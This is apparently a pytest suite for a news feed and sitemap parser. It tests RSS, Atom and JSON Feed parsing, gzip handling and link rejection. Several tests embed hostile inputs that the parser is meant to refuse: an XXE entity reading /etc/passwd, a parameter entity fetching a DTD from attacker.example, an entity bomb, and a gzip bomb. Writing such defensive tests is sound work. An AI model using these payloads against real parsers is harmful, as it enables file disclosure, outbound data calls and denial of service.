"""Listings from fetched bytes (tasks/web/feeds.py): each kind recognised, items with their
fields, repeats collapsed, entries without a link rejected, and bombs refused unread."""

from __future__ import annotations

import gzip
import io
import json
from pathlib import Path

import pytest

from tasks.records import RejectReason
from tasks.web import feeds
from tasks.web.feeds import Listing, ListingError, read_listing
from tasks.web.items import ListedItem

DATA = Path(__file__).resolve().parents[1] / "data" / "feeds"


def read(name: str, url: str, content_type: str = "", **kwargs) -> Listing:
    return read_listing((DATA / name).read_bytes(), url, content_type, **kwargs)


@pytest.fixture
def no_parsers(monkeypatch):
    """Makes any use of feedparser or lxml's XML parser fail the test: for bodies that must be refused unread."""
    import feedparser
    from lxml import etree

    def refuse(*args, **kwargs):
        raise AssertionError("a parser saw a body that should have been refused first")

    monkeypatch.setattr(feedparser, "parse", refuse)
    monkeypatch.setattr(etree, "fromstring", refuse)


def test_rss2():
    listing = read("rss2.xml", "https://news.harbourline.example/feed.xml", "application/rss+xml; charset=utf-8")
    assert listing.kind == "feed" and listing.title == "The Harbourline Courier"
    assert listing.rejected == [] and listing.sitemaps == []
    assert listing.items == [
        ListedItem(
            url="https://news.harbourline.example/local/ferry-timetable",
            guid="harbourline-1001",
            title="Ferry timetable changes after pier repairs",
            published="2025-06-03T09:30:00+02:00",
            authors=("Mira Okonkwo", "Tobias Lindqvist"),
        ),
        ListedItem(
            url="https://news.harbourline.example/local/quay-street-cycle-lane",  # relative, joined on the feed URL
            guid="harbourline-1002",
            title="Council approves new cycle lane on Quay Street",
            published="2025-06-02T17:05:00+00:00",
            authors=("Priya Castellanos",),  # "desk@... (Priya Castellanos)": the name, not the address
        ),
        # the third item is the first one again, spelled differently: dropped
        ListedItem(
            url="https://news.harbourline.example/culture/lighthouse-museum",  # a permalink guid is the link
            guid="https://news.harbourline.example/culture/lighthouse-museum",
            title="Lighthouse museum reopens with a new lens",
            published="2025-06-01T08:00:00+00:00",
        ),
    ]


def test_rss1_rdf():
    listing = read("rss1_rdf.xml", "https://valleyledger.example/rss")
    assert listing.kind == "feed" and listing.title == "Valley Ledger"
    assert [i.url for i in listing.items] == ["https://valleyledger.example/2025/05/orchard-frost", "https://valleyledger.example/2025/05/school-choir"]
    assert [i.published for i in listing.items] == ["2025-05-14T06:15:00+00:00", "2025-05-12"]
    assert listing.items[0].authors == ("Anneke Vos",)


def test_atom():
    listing = read("atom.xml", "https://northwind-gazette.example/atom.xml", "application/atom+xml")
    assert listing.kind == "feed" and listing.title == "Northwind Gazette"
    first, second = listing.items
    assert first.url == "https://northwind-gazette.example/science/tern-survey?page=2"  # xml:base, alternate link, gclid gone
    assert first.guid == "tag:northwind-gazette.example,2025:entry-41"
    assert first.published == "2025-04-19T08:00:00+01:00"  # published before updated
    assert first.authors == ("Samir Haddad", "Lena Brandt")
    assert second.published == "2025-04-20T07:45:00+00:00"  # only updated
    assert second.title == "Harbour tunnel opens a month early"


def test_json_feed():
    listing = read("feed.json", "https://copperfield-daily.example/feed.json", "application/feed+json")
    assert listing.kind == "feed" and listing.title == "Copperfield Daily"
    assert listing.items == [
        ListedItem(
            url="https://copperfield-daily.example/business/mill-reopens",
            guid="cd-501",
            title="Old textile mill reopens as a makers' market",
            published="2025-03-08T10:00:00-05:00",
            authors=("Dolores Ferreira", "Kwame Mensah"),
        ),
        ListedItem(
            url="https://copperfield-daily.example/sport/rowing-club-centenary",
            guid="cd-502",
            title="Rowing club marks its centenary",
            published="2025-03-07",
            authors=("Ingrid Solberg",),  # version 1's single `author`
        ),
    ]
    [(origin, reason, detail)] = listing.rejected
    assert (origin, reason) == ("https://copperfield-daily.example/feed.json", RejectReason.MISSING_FIELD)
    assert "cd-503" in detail and "An entry without any link" in detail


def test_json_feed_version_1_and_other_json():
    body = json.dumps({"version": "https://jsonfeed.org/version/1", "title": "T", "items": [{"id": 1, "url": "https://a.example/x"}]}).encode()
    assert read_listing(body, "https://a.example/feed.json").items == [ListedItem(url="https://a.example/x", guid="1")]
    assert read_listing(b'{"hello": "world"}', "https://a.example/api").kind == "other"
    with pytest.raises(ListingError) as caught:
        read_listing(b'{"version": "https://jsonfeed.org/version/1.1", "items": [', "https://a.example/feed.json")
    assert caught.value.reason == RejectReason.PARSE_ERROR


def test_sitemap():
    url = "https://brightwater-post.example/sitemap.xml"
    listing = read("sitemap.xml", url, "application/xml")
    assert listing.kind == "sitemap"
    assert listing.items == [
        ListedItem(url="https://brightwater-post.example/news/reservoir-levels", published="2025-02-11"),
        ListedItem(url="https://brightwater-post.example/news/bridge-inspection", published="2025-02-10T16:20:00+00:00"),
        ListedItem(url="https://brightwater-post.example/about"),
    ]  # the reservoir page listed twice (once with #top) is there once
    [(origin, reason, detail)] = listing.rejected
    assert (origin, reason) == (url, RejectReason.MISSING_FIELD) and "<loc>" in detail


def test_gzipped_sitemap_reads_like_the_plain_one():
    url = "https://brightwater-post.example/sitemap.xml.gz"
    plain = read("sitemap.xml", url)
    zipped = read("sitemap.xml.gz", url, "application/gzip")
    assert zipped.kind == "sitemap" and zipped.items == plain.items and zipped.rejected == plain.rejected


def test_gzipped_feed():
    body = gzip.compress((DATA / "atom.xml").read_bytes())
    assert read_listing(body, "https://northwind-gazette.example/atom.xml.gz").kind == "feed"


def test_news_sitemap():
    listing = read("news_sitemap.xml", "https://tidewater-times.example/news-sitemap.xml")
    assert listing.kind == "sitemap" and listing.title == "Tidewater Times"
    assert listing.items == [
        ListedItem(
            url="https://tidewater-times.example/2025/01/storm-surge-warning",
            title="Storm surge warning issued for the estuary",
            published="2025-01-20T18:45:00+00:00",  # news:publication_date, not lastmod
        ),
        ListedItem(url="https://tidewater-times.example/2025/01/oyster-season", title="Oyster season opens with record prices", published="2025-01-19"),
    ]


def test_sitemap_index():
    listing = read("sitemap_index.xml", "https://brightwater-post.example/sitemap_index.xml")
    assert listing.kind == "sitemap_index" and listing.items == []
    assert listing.sitemaps == ["https://brightwater-post.example/sitemaps/news.xml", "https://brightwater-post.example/sitemaps/archive-2024.xml.gz"]


def test_html_and_other():
    assert read("site_root.html", "https://news.harbourline.example/", "text/html") == Listing(kind="html")
    assert read("site_root.html", "https://news.harbourline.example/").kind == "html"  # known by its bytes alone
    assert read("robots.txt", "https://news.harbourline.example/robots.txt", "text/plain").kind == "other"
    assert read_listing(b"\x89PNG\r\n\x1a\n\x00\x00", "https://a.example/x.png", "image/png").kind == "other"
    assert read_listing(b"", "https://a.example/empty").kind == "other"


def test_text_sitemap():
    body = b"https://a.example/one\nhttps://a.example/two?utm_source=x\n\nhttps://a.example/one\n"
    listing = read_listing(body, "https://a.example/sitemap.txt", "text/plain")
    assert listing.kind == "sitemap" and [i.url for i in listing.items] == ["https://a.example/one", "https://a.example/two"]


def test_entry_without_link_is_rejected_and_the_rest_kept():
    url = "https://orchard-bulletin.example/rss"
    listing = read("entry_without_link.xml", url)
    assert [i.url for i in listing.items] == ["https://orchard-bulletin.example/food/bread-award"]
    (missing_origin, missing, missing_detail), (mail_origin, not_http, mail_detail) = listing.rejected
    assert missing_origin == mail_origin == url
    assert missing == RejectReason.MISSING_FIELD and url in missing_detail and "ob-78" in missing_detail and "street market" in missing_detail
    assert not_http == RejectReason.BLOCKED and "mailto:" in mail_detail


def test_malformed_feed_is_a_parse_error_naming_the_url():
    url = "https://broken-feed.example/rss"
    with pytest.raises(ListingError) as caught:
        read("malformed.xml", url, "application/rss+xml")
    assert caught.value.reason == RejectReason.PARSE_ERROR and url in caught.value.detail


def test_feed_broken_after_its_entries_keeps_them():
    whole = (DATA / "rss2.xml").read_text()
    cut = whole[: whole.index("<item>", whole.index("lighthouse") - 300)] + "<item><title>half"
    listing = read_listing(cut.encode(), "https://news.harbourline.example/feed.xml")
    assert [i.guid for i in listing.items] == ["harbourline-1001", "harbourline-1002"]
    assert listing.warnings


def test_broken_sitemap_is_a_parse_error():
    with pytest.raises(ListingError) as caught:
        read_listing(b'<?xml version="1.0"?><urlset><url><lo', "https://a.example/sitemap.xml")
    assert caught.value.reason == RejectReason.PARSE_ERROR


def test_entity_bomb_is_refused_before_any_parser_sees_it(no_parsers):
    url = "https://laughing-feed.example/rss"
    with pytest.raises(ListingError) as caught:
        read("entity_bomb.xml", url)
    assert caught.value.reason == RejectReason.PARSE_ERROR and url in caught.value.detail and "ENTITY" in caught.value.detail


@pytest.mark.parametrize(
    "body",
    [
        b'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]><urlset><url><loc>&x;</loc></url></urlset>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE feed [<!ENTITY a "aaaa">]><feed xmlns="http://www.w3.org/2005/Atom"/>'.encode("utf-16"),
        gzip.compress(b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><rss version="2.0"/>'),
    ],
    ids=["xxe-sitemap", "utf16-feed", "gzipped-parameter-entity"],
)
def test_entity_declarations_are_refused_in_any_disguise(body, no_parsers):
    with pytest.raises(ListingError) as caught:
        read_listing(body, "https://a.example/x")
    assert caught.value.reason == RejectReason.PARSE_ERROR


def test_entity_words_inside_cdata_are_only_text():
    body = b'<?xml version="1.0"?><rss version="2.0"><channel><title>T</title><item><title><![CDATA[Why <!ENTITY is dangerous]]></title><link>https://a.example/xml</link></item></channel></rss>'
    assert [i.title for i in read_listing(body, "https://a.example/rss").items] == ["Why <!ENTITY is dangerous"]


def test_gzip_bomb_is_refused_at_the_cap():
    bomb = gzip.compress(b"\0" * 2_000_000)  # about 2 KB that inflate to 2 MB
    assert len(bomb) < 10_000
    with pytest.raises(ListingError) as caught:
        read_listing(bomb, "https://a.example/sitemap.xml.gz", max_bytes=64_000)
    assert caught.value.reason == RejectReason.TOO_LARGE


def test_gzip_inflation_is_bounded(monkeypatch):
    """The guard asks zlib for at most max_bytes + 1 bytes in all, never for everything."""
    asked: list[int] = []
    real = feeds.zlib.decompressobj

    class Spy:
        def __init__(self, *args):
            self.inner = real(*args)

        def decompress(self, data, max_length=0):
            asked.append(max_length)
            return self.inner.decompress(data, max_length)

        def __getattr__(self, name):
            return getattr(self.inner, name)

    monkeypatch.setattr(feeds.zlib, "decompressobj", Spy)
    with pytest.raises(ListingError):
        read_listing(gzip.compress(b"x" * 1_000_000), "https://a.example/big.gz", max_bytes=10_000)
    assert asked and all(0 < n <= 10_001 for n in asked)


def test_gzip_members_and_broken_gzip():
    body = gzip.compress(b"https://a.example/one\n") + gzip.compress(b"https://a.example/two\n")
    assert [i.url for i in read_listing(body, "https://a.example/s.txt.gz").items] == ["https://a.example/one", "https://a.example/two"]
    with pytest.raises(ListingError) as caught:
        read_listing(gzip.compress((DATA / "sitemap.xml").read_bytes())[:-30], "https://a.example/s.xml.gz")
    assert caught.value.reason == RejectReason.PARSE_ERROR


def test_body_over_the_cap_is_too_large():
    with pytest.raises(ListingError) as caught:
        read("sitemap.xml", "https://a.example/sitemap.xml", max_bytes=100)
    assert caught.value.reason == RejectReason.TOO_LARGE


def test_feedparser_gets_a_stream_never_a_url(monkeypatch):
    import feedparser

    seen = []
    real = feedparser.parse

    def spy(source, *args, **kwargs):
        seen.append(source)
        return real(source, *args, **kwargs)

    monkeypatch.setattr(feedparser, "parse", spy)
    read("rss2.xml", "https://news.harbourline.example/feed.xml")
    assert len(seen) == 1 and isinstance(seen[0], io.BytesIO)


def test_sitemap_broken_after_its_entries_keeps_them():
    body = b'<?xml version="1.0"?><urlset><url><loc>https://a.example/one</loc></url><url><loc>https://a.example/tw'
    listing = read_listing(body, "https://a.example/sitemap.xml")
    assert [i.url for i in listing.items][:1] == ["https://a.example/one"] and listing.warnings


def test_rss091_with_an_external_doctype_is_read_without_fetching_it():
    body = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        b'<rss version="0.91"><channel><title>Fenwick Almanac</title><link>https://fenwick.example/</link>'
        b"<item><title>Caf\xe9 owners plan a harvest fair</title><link>https://fenwick.example/fair</link></item></channel></rss>"
    )
    listing = read_listing(body, "https://fenwick.example/rss091.xml", "text/xml")
    assert listing.kind == "feed" and [(i.url, i.title) for i in listing.items] == [("https://fenwick.example/fair", "Café owners plan a harvest fair")]
